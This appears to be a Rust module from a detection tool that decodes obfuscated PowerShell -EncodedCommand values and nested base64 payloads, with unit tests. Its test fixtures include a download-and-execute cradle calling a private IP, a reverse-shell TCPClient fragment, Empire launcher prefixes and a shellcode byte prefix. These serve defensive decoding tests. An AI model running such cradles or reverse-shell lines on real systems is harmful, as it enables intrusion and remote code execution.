//! PowerShell `-EncodedCommand` decoding, and decoding of `FromBase64String('…')` payloads nested
//! in the decoded script (gzip, raw deflate, UTF-16LE or UTF-8 text).

use crate::text::{cap, is_plausible_text, MAX_INPUT};
use base64::alphabet;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine as _;
use regex::Regex;
use serde::Serialize;
use std::io::Read;
use std::sync::LazyLock;

/// Decompressed nested payloads are cut at this many bytes.
pub const MAX_DECOMPRESSED: usize = 1 << 20;
/// At most this many nested payloads are decoded from one script.
const MAX_NESTED: usize = 16;
/// Nested payloads inside nested payloads are followed this deep.
const MAX_DEPTH: usize = 3;
/// An unquoted value broken by whitespace is re-joined over at most this many pieces.
const MAX_PIECES: usize = 64;

/// Standard alphabet; padding optional; trailing bits tolerated (truncated copies in notes).
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_encode_padding(false)
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// A decoded `-EncodedCommand`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DecodedPowerShell {
    /// The switch as written (`-enc`, `-EncodedCommand`, `/e`, `–ec`).
    pub switch: String,
    /// The base64 value, without quotes and whitespace.
    pub encoded: String,
    /// The script, decoded from UTF-16LE.
    pub decoded: String,
    /// Text of `FromBase64String('…')` payloads found in the script (gunzipped when gzip),
    /// in order of appearance, payloads of payloads after their parent.
    pub nested: Vec<String>,
}

/// `-EncodedCommand` and every prefix PowerShell accepts (`-e`, `-en`, `-enc`, …) plus the
/// `-ec` alias; `-`, `/` or a dash look-alike (en/em dash, horizontal bar); then whitespace.
static SWITCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:^|[\s"'])([-/\x{2013}\x{2014}\x{2015}](?:ec|e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?)?)?)?)?)?)?)?))["']?\s+"#,
    )
    .expect("static regex")
});

static FROM_BASE64: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)FromBase64String\s*\(\s*['"]+\s*([A-Za-z0-9+/=\s]{8,}?)\s*['"]"#)
        .expect("static regex")
});

/// Decodes the first PowerShell `-EncodedCommand` value in `command_line`.
///
/// Recognises `-EncodedCommand` and its abbreviations (`-e`, `-ec`, `-en`, `-enc`, `-enco`…),
/// case-insensitively, introduced by `-`, `/` or an en/em dash, followed by one or more spaces
/// and a value that may be quoted. The value is base64 (padding optional, stray whitespace
/// tolerated) of UTF-16LE text; when it does not decode to plausible text the switch is skipped
/// (it may be some other program's `-e`). Returns `None` when no switch decodes.
pub fn decode_powershell(command_line: &str) -> Option<DecodedPowerShell> {
    let s = cap(command_line, MAX_INPUT);
    let mut pos = 0;
    while let Some(caps) = SWITCH.captures_at(s, pos) {
        let (Some(sw), Some(all)) = (caps.get(1), caps.get(0)) else {
            break;
        };
        pos = sw.end();
        if let Some((encoded, decoded)) = decode_value(s, all.end()) {
            let nested = decode_base64_payloads(&decoded);
            return Some(DecodedPowerShell {
                switch: sw.as_str().to_string(),
                encoded,
                decoded,
                nested,
            });
        }
    }
    None
}

/// Whether `text` carries an encoded-command switch followed by at least 16 base64 characters,
/// decodable or not (service definitions are often cut short in logs and notes).
pub(crate) fn has_encoded_switch(text: &str) -> bool {
    let s = cap(text, MAX_INPUT);
    let mut pos = 0;
    while let Some(caps) = SWITCH.captures_at(s, pos) {
        let (Some(sw), Some(all)) = (caps.get(1), caps.get(0)) else {
            break;
        };
        pos = sw.end();
        let rest = s[all.end()..].trim_start_matches(['"', '\'']);
        let run = rest.find(|c: char| !is_b64_char(c)).unwrap_or(rest.len());
        if run >= 16 {
            return true;
        }
    }
    false
}

/// Decodes the `FromBase64String('…')` / `FromBase64String("…")` payloads in `text`: gzip
/// (`H4sI…`) is gunzipped (output capped at [`MAX_DECOMPRESSED`]), raw deflate inflated, and the
/// result kept when it is printable UTF-16LE or UTF-8 text. Binary payloads (shellcode) are
/// skipped. Payloads found inside decoded payloads follow their parent (3 levels, 16 in all).
pub fn decode_base64_payloads(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    collect_payloads(cap(text, MAX_INPUT), 0, &mut out);
    out
}

fn collect_payloads(text: &str, depth: usize, out: &mut Vec<String>) {
    if depth >= MAX_DEPTH {
        return;
    }
    for caps in FROM_BASE64.captures_iter(text) {
        if out.len() >= MAX_NESTED {
            return;
        }
        let Some(m) = caps.get(1) else { continue };
        if let Some(decoded) = decode_payload(m.as_str()) {
            out.push(decoded);
            if let Some(last) = out.last().cloned() {
                collect_payloads(&last, depth + 1, out);
            }
        }
    }
}

/// Reads the value starting at `at` and decodes it; `(cleaned base64, script)`.
fn decode_value(s: &str, at: usize) -> Option<(String, String)> {
    let rest = s.get(at..)?;
    let first = rest.chars().next()?;
    if first == '"' || first == '\'' {
        let body = &rest[1..];
        let body = match body.find(first) {
            Some(i) => &body[..i],
            None => body.split(char::is_whitespace).next().unwrap_or(""),
        };
        let cleaned: String = body.chars().filter(|c| !c.is_whitespace()).collect();
        let decoded = utf16le_text(&lenient_decode(&cleaned)?)?;
        return Some((cleaned, decoded));
    }
    // Unquoted: the run of base64 characters. A value wrapped across lines in a log arrives
    // in whitespace-separated pieces: join following pure-base64 pieces while the joined value
    // still decodes and each piece adds only plain ASCII text.
    let mut cleaned = String::new();
    let mut best: Option<(String, String)> = None;
    let mut cursor = rest;
    for _ in 0..MAX_PIECES {
        let run_len = cursor
            .find(|c: char| !is_b64_char(c))
            .unwrap_or(cursor.len());
        let ends_cleanly = cursor[run_len..]
            .chars()
            .next()
            .is_none_or(|c| c.is_whitespace() || c == '"' || c == '\'');
        if run_len == 0 || (best.is_some() && !ends_cleanly) {
            break;
        }
        cleaned.push_str(&cursor[..run_len]);
        match lenient_decode(&cleaned).and_then(|b| utf16le_text(&b)) {
            Some(decoded) => {
                let extends = match &best {
                    None => true,
                    Some((_, prev)) => {
                        decoded.starts_with(prev.as_str()) && {
                            let added = &decoded[prev.len()..];
                            !added.is_empty()
                                && added
                                    .chars()
                                    .all(|c| c.is_ascii_graphic() || c.is_ascii_whitespace())
                        }
                    }
                };
                if !extends {
                    break;
                }
                best = Some((cleaned.clone(), decoded));
            }
            None if best.is_some() => break,
            None => {}
        }
        if cleaned.ends_with('=') || !ends_cleanly {
            break;
        }
        let after = &cursor[run_len..];
        let trimmed = after.trim_start();
        if trimmed.len() == after.len() {
            break;
        }
        cursor = trimmed;
    }
    best
}

fn is_b64_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='
}

/// Base64 with whitespace removed, padding optional, a dangling 6-bit group dropped.
pub(crate) fn lenient_decode(value: &str) -> Option<Vec<u8>> {
    let value = cap(value, MAX_INPUT);
    let mut cleaned: Vec<u8> = Vec::with_capacity(value.len());
    for c in value.chars() {
        if c.is_whitespace() {
            continue;
        }
        if !is_b64_char(c) {
            return None;
        }
        cleaned.push(c as u8);
    }
    while cleaned.last() == Some(&b'=') {
        cleaned.pop();
    }
    if cleaned.contains(&b'=') {
        return None;
    }
    if cleaned.len() % 4 == 1 {
        cleaned.pop();
    }
    if cleaned.is_empty() {
        return None;
    }
    LENIENT.decode(&cleaned).ok()
}

/// UTF-16LE bytes as text, when the result is plausible text.
pub(crate) fn utf16le_text(bytes: &[u8]) -> Option<String> {
    let units = bytes
        .chunks_exact(2)
        .map(|p| u16::from_le_bytes([p[0], p[1]]));
    let text: String = char::decode_utf16(units)
        .map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect();
    let text = text.trim_start_matches('\u{FEFF}').trim_end_matches('\0');
    is_plausible_text(text).then(|| text.to_string())
}

fn utf8_text(bytes: &[u8]) -> Option<String> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let text = String::from_utf8_lossy(bytes);
    let text = text.trim_end_matches('\0');
    is_plausible_text(text).then(|| text.to_string())
}

fn decode_payload(b64: &str) -> Option<String> {
    let bytes = lenient_decode(b64)?;
    if bytes.starts_with(&[0x1f, 0x8b]) {
        let mut out = Vec::new();
        // A truncated or damaged stream still yields what was inflated before the damage.
        let _ = flate2::read::GzDecoder::new(bytes.as_slice())
            .take(MAX_DECOMPRESSED as u64)
            .read_to_end(&mut out);
        return utf8_text(&out).or_else(|| utf16le_text(&out));
    }
    if let Some(text) = utf16le_text(&bytes).or_else(|| utf8_text(&bytes)) {
        return Some(text);
    }
    let mut out = Vec::new();
    let _ = flate2::read::DeflateDecoder::new(bytes.as_slice())
        .take(MAX_DECOMPRESSED as u64)
        .read_to_end(&mut out);
    if out.is_empty() {
        return None;
    }
    utf8_text(&out).or_else(|| utf16le_text(&out))
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::STANDARD;
    use std::io::Write;

    fn enc16(s: &str) -> String {
        let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
        STANDARD.encode(bytes)
    }

    fn gzip_b64(s: &str) -> String {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(s.as_bytes()).unwrap();
        STANDARD.encode(e.finish().unwrap())
    }

    const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')";

    #[test]
    fn empire_launcher_prefix() {
        let cl = "powershell -noP -sta -w 1 -enc  SQBGACgAJABQAFMAVgBFAFIAcwBpAG8ATgBUAEEAQgBMAEUA";
        let d = decode_powershell(cl).unwrap();
        assert_eq!(d.switch, "-enc");
        assert_eq!(d.decoded, "IF($PSVERsioNTABLE");
        assert!(d
            .decoded
            .to_ascii_lowercase()
            .starts_with("if($psversiontable"));
        // The other two Empire variants from the ground truth (4697 and WmiPrvSE child).
        let svc = r"%COMSPEC% /C start /b C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc  SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAYgBsAEUA";
        assert_eq!(
            decode_powershell(svc).unwrap().decoded,
            "If($PSVErSiOnTablE"
        );
    }

    #[test]
    fn every_abbreviation_and_forms() {
        let b = enc16(CRADLE);
        let full = "encodedcommand";
        for n in 1..=full.len() {
            let sw = &full[..n];
            for prefix in ["-", "/", "\u{2013}", "\u{2014}"] {
                for case in [sw.to_string(), sw.to_ascii_uppercase()] {
                    let cl = format!("powershell.exe -NoP {prefix}{case}   {b}");
                    let d = decode_powershell(&cl).unwrap_or_else(|| panic!("{cl}"));
                    assert_eq!(d.decoded, CRADLE);
                    assert_eq!(d.switch, format!("{prefix}{case}"));
                    assert_eq!(d.encoded, b);
                }
            }
        }
        for cl in [
            format!("pwsh -ec {b}"),
            format!("powershell -EC \"{b}\""),
            format!("powershell -e '{b}'"),
            format!("\"powershell.exe\" \"-enc\" {b}"),
        ] {
            assert_eq!(decode_powershell(&cl).unwrap().decoded, CRADLE, "{cl}");
        }
    }

    #[test]
    fn missing_padding_and_whitespace() {
        let b = enc16("whoami /all");
        let unpadded = b.trim_end_matches('=');
        assert_ne!(unpadded, b, "test needs a padded value");
        let d = decode_powershell(&format!("powershell -enc {unpadded}")).unwrap();
        assert_eq!(d.decoded, "whoami /all");
        // Value wrapped by whitespace (line-wrapped logs), quoted and unquoted.
        let (a, c) = b.split_at(8);
        let d = decode_powershell(&format!("powershell -enc \"{a}\r\n {c}\"")).unwrap();
        assert_eq!(d.decoded, "whoami /all");
        let d = decode_powershell(&format!("powershell -enc {a} {c} -nop")).unwrap();
        assert_eq!(d.decoded, "whoami /all");
    }

    #[test]
    fn not_powershell_or_not_text() {
        assert_eq!(decode_powershell("powershell -ep bypass -file x.ps1"), None);
        assert_eq!(decode_powershell("findstr -e foo bar.txt"), None);
        assert_eq!(decode_powershell("powershell -enc"), None);
        assert_eq!(decode_powershell("powershell -enc !!!!"), None);
        // UTF-8 bytes, not UTF-16LE: not plausible.
        let utf8 = STANDARD.encode("Get-Process | Select-Object -First 5");
        assert_eq!(decode_powershell(&format!("powershell -enc {utf8}")), None);
        // Random bytes.
        let junk = STANDARD.encode([0x13u8, 0x99, 0xfe, 0x01, 0x77, 0xd8, 0x00, 0xdc, 0x42, 0x42]);
        assert_eq!(decode_powershell(&format!("powershell -enc {junk}")), None);
        // -ExecutionPolicy must not be read as -e.
        assert_eq!(
            decode_powershell("powershell -ExecutionPolicy Bypass"),
            None
        );
    }

    #[test]
    fn skips_an_earlier_non_decoding_switch() {
        let b = enc16(CRADLE);
        let cl = format!("tool -e zz powershell -enc {b}");
        assert_eq!(decode_powershell(&cl).unwrap().decoded, CRADLE);
    }

    #[test]
    fn nested_gzip_utf16_and_utf8() {
        let inner = "$c = New-Object Net.Sockets.TCPClient('10.0.2.19',4444)";
        let script = format!(
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(''{}''));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
            gzip_b64(inner)
        );
        let cl = format!("powershell -nop -w hidden -enc {}", enc16(&script));
        let d = decode_powershell(&cl).unwrap();
        assert_eq!(d.decoded, script);
        assert_eq!(d.nested, vec![inner.to_string()]);

        let t = format!(
            "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(\"{}\")); [Convert]::FromBase64String('{}')",
            enc16("whoami"),
            STANDARD.encode("hostname && ipconfig")
        );
        assert_eq!(
            decode_base64_payloads(&t),
            vec!["whoami", "hostname && ipconfig"]
        );
        // Binary payload (shellcode) is skipped.
        let sc = STANDARD.encode([0xfcu8, 0xe8, 0x82, 0x00, 0x00, 0x00, 0x60, 0x89, 0xe5, 0x31]);
        assert!(decode_base64_payloads(&format!("FromBase64String('{sc}')")).is_empty());
    }

    #[test]
    fn nested_payload_of_payload() {
        let level2 = "Write-Host deep";
        let level1 = format!("iex([Convert]::FromBase64String('{}'))", enc16(level2));
        let top = format!("[Convert]::FromBase64String(\"{}\")", gzip_b64(&level1));
        assert_eq!(
            decode_base64_payloads(&top),
            vec![level1, level2.to_string()]
        );
    }

    #[test]
    fn truncated_gzip_keeps_what_inflated() {
        let text = "Write-Output 'hello from a long script' ".repeat(200);
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        e.write_all(text.as_bytes()).unwrap();
        let gz = e.finish().unwrap();
        let cut = STANDARD.encode(&gz[..gz.len() - 12]);
        let out = decode_base64_payloads(&format!("FromBase64String('{cut}')"));
        assert_eq!(out.len(), 1);
        assert!(text.starts_with(&out[0]));
    }

    #[test]
    fn gzip_bomb_is_capped() {
        let big = vec![b'A'; 8 * MAX_DECOMPRESSED];
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(&big).unwrap();
        let b = STANDARD.encode(e.finish().unwrap());
        let out = decode_base64_payloads(&format!("FromBase64String('{b}')"));
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].len(), MAX_DECOMPRESSED);
    }
}
